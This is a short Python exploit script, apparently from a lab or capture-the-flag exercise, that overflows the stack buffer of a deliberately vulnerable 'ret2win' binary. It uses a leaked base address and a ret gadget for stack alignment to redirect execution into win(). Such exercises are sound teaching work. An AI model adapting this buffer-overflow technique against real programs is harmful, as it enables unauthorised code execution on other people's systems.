#!/usr/bin/env python3
"""Exploit for ret2win.c: overflow vuln()'s stack buffer and return into win().

From the binary: vuln() reads into a buffer at rbp-0x40 (so the return
address is 0x48 bytes in), win()'s offset (nm) and the offset of a `ret`
instruction. From the leak: the binary's base. The new return address is
the `ret` (it keeps the stack 16-byte aligned for win's calls into libc),
then win.
"""
import attacker as a

args = a.parse_args(__doc__)
distance, ret = a.stack_frame(args.binary, "vuln")
win = a.symbols(args.binary)["win"]
layout = a.leak_layout(args)
base = layout.binary_base

payload = b"A" * distance + a.p64(base + ret) + a.p64(base + win)
a.send(args.fifo, payload)
